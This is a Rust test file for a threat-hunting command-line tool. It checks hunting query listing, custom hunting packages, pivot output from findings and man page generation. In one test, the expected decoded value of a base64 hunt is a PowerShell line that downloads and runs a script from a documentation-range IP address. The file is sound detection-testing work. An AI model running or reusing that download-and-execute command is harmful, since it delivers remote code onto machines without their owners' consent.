//! Hunting queries, and what findings give to hunt for.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod support;

use std::fs;
use support::{mynah, repository};

#[test]
fn hunting_queries_are_listed_shown_and_run_by_name() {
    let list = mynah(&["hunt"]).stdout;
    for name in ["logon-summary", "event-ids", "base64", "T1059.009-cloud-api"] {
        assert!(list.contains(name), "{name}: {list}");
    }
    let shown = mynah(&["hunt", "base64", "--show"]).stdout;
    assert!(shown.contains("base64Decode(base64, \"UTF-16LE\")"), "{shown}");
    let logs = repository("detections/hunting/base64/tests");
    let rows = mynah(&["hunt", "base64", "--data", &logs]).rows();
    assert_eq!(rows.len(), 3);
    assert_eq!(rows[0]["decoded"], "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')");
    // Several queries say of which a row is, those of detections too.
    let logs = repository("examples/logs");
    let rows = mynah(&["hunt", "logon-summary", "T1059.009-cloud-api", "--data", &logs]).rows();
    let of = |name: &str| rows.iter().filter(|row| row["mynah_query"].as_str().unwrap().starts_with(name)).count();
    assert!(of("logon-summary/logons.spl") > 0 && of("T1059.009-cloud-api/hunting/") > 0, "{rows:?}");
}

#[test]
fn a_name_that_is_none_is_an_error_with_the_nearest() {
    let run = mynah(&["hunt", "logon-sumary", "--data", "logs"]);
    assert_eq!(run.status, 2);
    assert!(run.stderr.contains("did you mean `logon-summary`?"), "{}", run.stderr);
    assert_eq!(mynah(&["hunt", "base64"]).status, 2);
    assert_eq!(mynah(&["hunt", "--data", "logs"]).status, 2);
}

#[test]
fn packages_of_ones_own_are_tested_and_run() {
    let folder = tempfile::tempdir().unwrap();
    let own = folder.path().join("calls");
    fs::create_dir_all(&own).unwrap();
    let manifest = |count: &str| {
        format!(
            "title: Calls\ndescription: Who calls what.\nhunting:\n  - {{title: Calls by name, description: All of them., query: calls.spl}}\n\
             tests:\n  - name: One call\n    logs: [log.ndjson]\n    rows:\n      calls.spl: [{{eventName: ListUsers, count: \"{count}\"}}]\n"
        )
    };
    fs::write(own.join("calls.spl"), "index=* | stats count by eventName\n").unwrap();
    let call = "{\"eventVersion\":\"1.09\",\"eventSource\":\"iam.amazonaws.com\",\"eventName\":\"ListUsers\",\"eventTime\":\"2026-03-01T10:00:00Z\"}\n";
    fs::write(own.join("log.ndjson"), call).unwrap();
    fs::write(own.join("hunting.yaml"), manifest("1")).unwrap();
    let path = folder.path().display().to_string();
    let run = mynah(&["test", &path]);
    assert!(
        run.status == 0 && run.stdout.contains("1 hunting package, 1 check, 0 failed"),
        "{}{}",
        run.stdout,
        run.stderr
    );
    let log = own.join("log.ndjson").display().to_string();
    assert_eq!(mynah(&["hunt", "calls", "--catalog", &path, "--data", &log]).rows()[0]["count"], 1);
    // Rows that are others fail, and a manifest that is broken is named with its line.
    fs::write(own.join("hunting.yaml"), manifest("2")).unwrap();
    let run = mynah(&["test", &path]);
    assert!(run.status == 1 && run.stdout.contains("no row has count=2, eventName=ListUsers"), "{}", run.stdout);
    fs::write(own.join("hunting.yaml"), manifest("1").replace("query: calls.spl", "query: others.spl")).unwrap();
    let run = mynah(&["test", &path]);
    assert!(run.status == 2 && run.stderr.contains("hunting.yaml:4: `others.spl`"), "{}", run.stderr);
}

#[test]
fn findings_give_values_to_search_other_logs_for() {
    let rows = mynah(&["detect", "--data", &repository("examples/logs"), "--format", "pivot"]).rows();
    let of = |kind: &str| rows.iter().filter(|row| row["kind"] == kind).collect::<Vec<_>>();
    for kind in ["user", "address", "host", "process"] {
        assert!(!of(kind).is_empty(), "{kind}: {rows:?}");
    }
    let first = &rows[0];
    assert!(first["findings"].as_u64().unwrap() > 0 && first["detections"].is_array() && first["first"].is_string());
}

#[test]
fn manual_pages_are_written_for_each_command() {
    assert!(mynah(&["man"]).stdout.contains(".TH mynah 1"));
    let folder = tempfile::tempdir().unwrap();
    let pages = folder.path().join("share/man1");
    assert_eq!(mynah(&["man", "--output", &pages.display().to_string()]).status, 0);
    for page in
        ["mynah.1", "mynah-run.1", "mynah-detect.1", "mynah-inspect.1", "mynah-hunt.1", "mynah-catalog-export.1"]
    {
        let text = fs::read_to_string(pages.join(page)).unwrap();
        assert!(text.contains(".SH SYNOPSIS"), "{page}");
    }
}
